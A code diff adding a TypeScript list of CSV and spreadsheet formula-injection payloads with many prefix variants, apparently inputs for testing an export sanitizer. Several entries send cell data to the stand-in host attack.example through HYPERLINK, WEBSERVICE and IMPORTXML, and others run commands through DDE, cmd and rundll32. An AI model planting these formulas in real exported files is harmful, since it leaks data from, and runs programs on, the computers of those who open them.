@@ -1,0 +1,42 @@
+/** What people have written into cells to be run by the spreadsheet program that opens them (OWASP 'CSV Injection' and its kin). */
+const PAYLOADS = [
+  '1+1',
+  'SUM(1,2)',
+  'SUM(A1:A9)',
+  'HYPERLINK("http://attack.example/?x="&A1,"click")',
+  'WEBSERVICE("http://attack.example/"&A1)',
+  "cmd|' /C calc'!A0",
+  'IMPORTXML(CONCAT("http://attack.example/?v=",CONCATENATE(A2:E2)),"//a")',
+  'IMPORTDATA("http://attack.example/")',
+  'IMAGE("http://attack.example/x.png")',
+  'DDE("cmd";"/C calc";"x")',
+  "rundll32|'URL.dll,OpenURL calc.exe'!A",
+  "'file:///etc/passwd'#$passwd.A1",
+  'IFERROR(1/0,"x")',
+  'IF(1,"a","b")',
+  '1;=2',
+  '1,=2',
+  '1|=2',
+  '1\t=2',
+  '1\n=2',
+  '1\r\n=2',
+  '"quoted"',
+  "'",
+  '',
+  '-1',
+  '+1',
+  '=1',
+  '@x',
+  "2+5+cmd|' /C calc'!A0",
+]
+const STARTS = ['=', '+', '-', '@', ' =', '\t=', '\r=', '\n=', '＝']
+
+export const INJECTIONS: readonly string[] = [
+  ...STARTS.flatMap((start) => PAYLOADS.map((payload) => `${start}${payload}`)),
+  '\ufeff=1+1',
+  '\u200b=1+1',
+  '\u00a0=1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(A1)',
+].filter((text) => !/^-\d+$/.test(text))
